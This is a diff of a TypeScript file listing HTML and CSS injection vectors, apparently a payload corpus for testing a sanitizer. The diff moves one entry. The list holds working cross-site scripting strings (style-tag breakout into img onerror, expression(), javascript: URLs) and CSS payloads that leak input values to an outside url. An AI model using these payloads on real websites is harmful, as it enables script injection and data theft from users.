@@ -23,9 +23,10 @@ export const loads = crossed(places, forms, (place, form) => hit => place(form(h
 
 /** Styles that hide, cover or lead a reader on, or run something in a browser of old. */
 export const styles: readonly Vector[] = [
+  ({ code }) => `<style><img src="</style><img src=x onerror=${code}//">`,
   () => '<div style="position: fixed; inset: 0; z-index: 9999; background: red">x</div>', () => '<style>body { display: none }</style>', () => '<style>.composer { opacity: 0 }</style>', () => '<font size=9999 color=red>x</font>',
   ({ code }) => `<div style="width: expression(${code})">x</div>`, ({ code }) => `<div style="behavior: url(#default#time2)" onbegin="${code}">x</div>`, ({ code }) => `<style>x { -moz-binding: url("javascript:${code}") }</style><x>x</x>`,
-  ({ code }) => `<div style="background: url('javascript:${code}')">x</div>`, ({ code }) => `<link rel=stylesheet href="javascript:${code}">`, ({ code }) => `<style><img src="</style><img src=x onerror=${code}//">`,
+  ({ code }) => `<div style="background: url('javascript:${code}')">x</div>`, ({ code }) => `<link rel=stylesheet href="javascript:${code}">`,
   ({ url }) => `<style>textarea[value^="a"] { background: url(${url}) }</style>`, ({ url }) => `<style>@namespace "${url}"; @import '${url}' layer(x);</style>`, ({ url }) => `<style>@property --x { syntax: "<url>"; inherits: true; initial-value: url(${url}) }</style>`,
   ({ url }) => `<div style="x: \\75rl(${url}); background: \\75 rl(${url})">x</div>`, ({ url }) => `<div style="background: u/**/rl(${url})">x</div>`, () => '<center><blink><marquee behavior=alternate>x</marquee></blink></center>',
 ];
